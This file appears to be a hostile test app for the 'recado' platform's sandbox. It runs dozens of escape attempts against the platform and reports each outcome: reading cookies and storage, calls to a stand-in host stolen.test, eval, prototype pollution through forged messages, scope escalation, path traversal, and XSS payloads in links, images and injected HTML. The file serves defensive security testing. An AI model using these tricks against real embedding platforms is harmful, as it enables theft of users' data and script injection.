// What a stranger's code would try. It runs as an app (e2e/apps-hostile.test.ts). Each trick returns whether it got what it wanted.
const { createElement: h, useEffect, useState } = require('react');
const recado = require('@recado/app');

const outside = 'https://stolen.test/';
const wait = (promise) =>
  Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error('silence')), 1_500))]);
const blobOf = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const everyPrototype = function* () {
  for (let one = globalThis; one; one = Object.getPrototypeOf(one)) yield one;
};
/** Looks for a global that was removed in all prototypes, as something that was forgotten. */
const dug = (name) => {
  for (const one of everyPrototype()) {
    const value = Object.getOwnPropertyDescriptor(one, name);
    const found = value?.value ?? value?.get?.call(globalThis);
    if (found) return found;
  }
  throw new Error('gone');
};
/** Sends anything to the page: the runtime serialises with a function that this code can replace. */
const raw = (message) => {
  const { stringify } = JSON;
  JSON.stringify = () => message;
  try {
    recado.toast('forged').catch(() => undefined);
  } finally {
    JSON.stringify = stringify;
  }
};
const forge = (message) => raw(JSON.stringify(message));

const tricks = {
  // Storage of the page
  cookie: () => Boolean(document.cookie),
  cookieStore: async () => Boolean(await dug('cookieStore').getAll()),
  localStorage: () => Boolean(dug('localStorage').getItem('token')),
  sessionStorage: () => Boolean(dug('sessionStorage')),
  indexedDB: () => Boolean(dug('indexedDB').open('recado')),
  caches: async () => Boolean(await dug('caches').keys()),
  storageOfNavigator: async () => Boolean(await navigator.storage.getDirectory()),
  broadcast: () => Boolean(new (dug('BroadcastChannel'))('recado')),
  locks: async () => Boolean(await navigator.locks.query()),
  // Network
  fetch: async () => Boolean(await dug('fetch')(outside)),
  fetchOfPage: async () => Boolean(await dug('fetch')('/registry.json')),
  request: () => {
    const request = new (dug('XMLHttpRequest'))();
    request.open('GET', outside, false);
    request.send();
    return true;
  },
  socket: () =>
    wait(new Promise((resolve) => Object.assign(new (dug('WebSocket'))('wss://stolen.test/'), { onopen: resolve }))),
  eventSource: () => Boolean(new (dug('EventSource'))(outside)),
  beacon: () => navigator.sendBeacon(outside, 'x'),
  transport: () => Boolean(new (dug('WebTransport'))(outside)),
  peers: () => Boolean(new (dug('RTCPeerConnection'))()),
  picture: () => {
    const picture = new (dug('Image'))();
    picture.src = outside;
    return true;
  },
  font: () => Boolean(new (dug('FontFace'))('x', `url(${outside})`)),
  prefetch: () => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'dns-prefetch', href: outside });
    document.head.appendChild(link);
    return typeof link.sheet === 'object' && link.sheet !== null;
  },
  // Code from elsewhere
  importScripts: () => dug('importScripts')(outside) === undefined,
  importScriptsOfBlob: () => dug('importScripts')(blobOf('globalThis.got = 1')) === undefined && globalThis.got === 1,
  eval: () => dug('eval')('1') === 1,
  function: () => (() => 0).constructor('return 1')() === 1,
  asyncFunction: async () => (await (async () => 0).constructor('return 1')()) === 1,
  generator: () => function* () {}.constructor('yield 1')().next().value === 1,
  timeoutOfText: async () => {
    setTimeout('globalThis.fromText = 1', 0);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return globalThis.fromText === 1;
  },
  wasm: async () => Boolean(await dug('WebAssembly').compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
  realm: () => new (dug('ShadowRealm'))().evaluate('1') === 1,
  // Other contexts
  worker: () => Boolean(new (dug('Worker'))(blobOf('1'))),
  sharedWorker: () => Boolean(new (dug('SharedWorker'))(outside)),
  serviceWorker: async () => Boolean(await navigator.serviceWorker.getRegistrations()),
  sharedMemory: () => Boolean(new (dug('SharedArrayBuffer'))(8)),
  sharedMemoryOfWasm: () => Boolean(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer),
  canvas: () => Boolean(new (dug('OffscreenCanvas'))(1, 1).getContext('webgl')),
  pageOfParent: () => Boolean(globalThis.parent && globalThis.parent !== globalThis && globalThis.parent.localStorage),
  pageOfTop: () => Boolean(globalThis.top?.document?.querySelector('.layout')),
  opener: () => Boolean(globalThis.opener),
  messageToParent: () => {
    parent.postMessage({ start: {} }, '*');
    return true;
  },
  messageOfWorker: () => {
    dug('postMessage')({ start: {} });
    return true;
  },
  frame: () => {
    const frame = document.createElement('iframe');
    frame.src = '/';
    document.body.appendChild(frame);
    return Boolean(frame.contentWindow);
  },
  // Navigation and windows
  navigate: () => {
    location.href = outside;
    return location.href === outside;
  },
  navigateTop: () => {
    top.location.assign(outside);
    return true;
  },
  popup: () => Boolean(open(outside)),
  history: () => Boolean(history.pushState({}, '', '/stolen')),
  // Devices and permissions
  notification: async () => (await dug('Notification').requestPermission()) === 'granted',
  clipboard: async () => Boolean(await navigator.clipboard.readText()),
  place: () => Boolean(navigator.geolocation),
  usb: () => Boolean(navigator.usb || navigator.hid || navigator.serial || navigator.gpu),
  // The page through what it answers
  prototype: () => {
    forge({ type: 'records', place: 1, records: [[3, '0', '__proto__', { stolen: 1 }]] });
    forge({ type: 'records', place: 1, records: [[3, '0', 'constructor', { stolen: 1 }]] });
    raw('{"type":"call","call":900001,"name":"__proto__","args":[]}');
    raw('{"type":"call","call":900002,"name":"constructor","args":[],"__proto__":{"stolen":1}}');
    return {}.stolen === 1;
  },
  otherPlaces: () => {
    for (let place = 5; place < 60; place += 1) {
      forge({ type: 'records', place, records: [[0, '~', { id: '7', type: 3, data: 'FORGED PLACE' }, 0]] });
    }
    return false;
  },
  callOfOtherPlace: async () => {
    const outcomes = [];
    for (const name of ['insertText', 'onClose', 'choose', 'constructor', '__proto__', 'leave', 'hasOwnProperty']) {
      for (const place of [1, 2, 3, 99]) {
        forge({ type: 'call', call: 910_000 + outcomes.length, name: `point.${name}`, args: ['FORGED'], place });
        outcomes.push(name);
      }
    }
    return false;
  },
  // Calls outside the scopes, of which it has none
  ticket: () => wait(recado.tickets.get(1)),
  messages: () => wait(recado.messages.list(1)),
  send: () => wait(recado.messages.send(1, 'hello')),
  contact: () => wait(recado.contacts.get(1)),
  contacts: () => wait(recado.contacts.list()),
  changeContact: () => wait(recado.contacts.update(1, { name: 'Stolen' })),
  tags: () => wait(recado.tags.list()),
  tagTicket: () => wait(recado.tags.ofTicket(1, [])),
  statement: () => wait(recado.server.statement?.() ?? Promise.reject(new Error('no such call'))),
  ownScopes: async () => {
    recado.context().scopes = ['contacts:read'];
    recado.context().scopes.push?.('contacts:read');
    return Boolean(await wait(recado.contacts.get(1)));
  },
  scopeInArguments: () => wait(recado.contacts.list({ scope: 'contacts:read', __proto__: { search: 'x' } })),
  dataOfOtherApp: () => wait(recado.data.get({ kind: 'company', id: 1, app: 'other' }, 'key')),
  keyWithPath: () => wait(recado.data.get({ kind: 'company' }, '../../other/data')),
  serverElsewhere: () => wait(recado.server.request({ path: 'https://stolen.test/', method: 'GET' })),
  serverMethod: () => wait(recado.server.request({ path: '/x', method: 'TRACE' })),
  openWithoutPerson: () => wait(recado.open('/settings')),
  openElsewhere: () => wait(recado.open('//stolen.test')),
  openScript: () => wait(recado.open('javascript:alert(1)')),
  // Values that are none
  cycle: () => {
    const cycle = {};
    cycle.self = cycle;
    return wait(recado.data.put({ kind: 'company' }, 'k', cycle, 0));
  },
  getters: () => {
    const value = {
      get stolen() {
        throw new Error('getter');
      },
    };
    return wait(recado.data.put({ kind: 'company' }, 'k', value, 0));
  },
  proxy: () => wait(recado.contacts.get(new Proxy({}, { get: () => () => 1 }))),
  endlessText: () => wait(recado.toast('x'.repeat(5_000))),
  deepValue: () => {
    let deep = [];
    for (let depth = 0; depth < 5_000; depth += 1) deep = [deep];
    return wait(recado.contacts.list(deep));
  },
};

async function outcomeOf(trick) {
  try {
    return (await trick()) ? 'SUCCEEDED' : 'failed';
  } catch {
    return 'failed';
  }
}

function Tricks() {
  const [done, setDone] = useState({});
  const [isOver, setOver] = useState(false);
  useEffect(() => {
    (async () => {
      for (const [name, trick] of Object.entries(tricks)) {
        const outcome = await outcomeOf(trick);
        setDone((before) => ({ ...before, [name]: outcome }));
      }
      setOver(true);
    })();
  }, []);
  return h(
    recado.Stack,
    null,
    h(recado.Text, null, isOver ? 'ALL TRIED' : 'trying'),
    Object.entries(done).map(([name, outcome]) => h(recado.Text, { key: name }, `trick ${name}: ${outcome}`)),
  );
}

/** What it would draw: nothing of it may reach the page as more than text. */
function Drawn() {
  const everything = {
    style: { position: 'fixed', inset: 0, zIndex: 9999 },
    className: 'layout',
    id: 'content',
    dangerouslySetInnerHTML: { __html: '<img src=x onerror="window.stolen=1">' },
    innerHTML: '<b>STOLEN</b>',
    onclick: 'window.stolen=1',
    href: 'javascript:window.stolen=1',
    srcdoc: '<script>parent.stolen=1</script>',
    autoFocus: true,
    tabIndex: 1,
    ref: null,
  };
  return h(
    recado.Stack,
    everything,
    h(recado.Text, { ...everything, tone: 'url(https://stolen.test)' }, '<img src=x onerror="window.stolen=1">'),
    h(recado.Link, { to: 'javascript:window.stolen=1' }, 'script link'),
    h(recado.Link, { to: 'data:text/html,<script>parent.stolen=1</script>' }, 'data link'),
    h(recado.Link, { to: 'http://stolen.test/' }, 'plain link'),
    h(recado.Link, { to: 'https://user:word@stolen.test/' }, 'word link'),
    h(recado.Link, { to: ' https://stolen.test/' }, 'space link'),
    h(recado.Link, { to: 'https://shop.example/' }, 'good link'),
    h(recado.Image, { src: 'https://stolen.test/x.png', alt: 'foreign picture' }),
    h(recado.Image, { src: 'data:text/html,<script>1</script>', alt: 'html picture' }),
    h(recado.Image, { src: 'data:image/svg+xml;base64,PHN2Zy8+', alt: 'svg picture' }),
    h(recado.Image, { src: '../../../registry.png', alt: 'path picture' }),
    h(recado.Image, {
      src: 'data:image/png;base64,iVBORw0KGgo=',
      alt: 'good picture',
      width: 99_999,
      style: everything.style,
    }),
    h(
      recado.Dialog,
      { title: 'STOLEN FOCUS', open: true },
      h(recado.TextField, { label: 'Password', autoFocus: true }),
    ),
    h(recado.Heading, { level: 1 }, 'big heading'),
    h(recado.Table, { columns: [{ key: '__proto__', title: 'p' }], rows: [{ ['__proto__']: 'x', constructor: 'y' }] }),
    h(recado.Button, { onPress: () => undefined, type: 'submit', formAction: 'https://stolen.test' }, 'press'),
  );
}

/** Elements of its own: the place is refused, or shows nothing of them. */
function Raw() {
  return h(
    recado.Stack,
    null,
    h('script', null, 'window.stolen=1'),
    h('iframe', { src: 'https://stolen.test/' }),
    h('style', null, 'body { display: none }'),
    h('app-root', null, 'root in root'),
    h('form', { action: 'https://stolen.test/' }, 'plain form'),
  );
}

function Deep() {
  let deep = 'bottom';
  for (let depth = 0; depth < 200; depth += 1) deep = h(recado.Stack, null, deep);
  return deep;
}

recado.extend('./tricks', Tricks);
recado.extend('./drawn', Drawn);
recado.extend('./raw', Raw);
recado.extend('./deep', Deep);
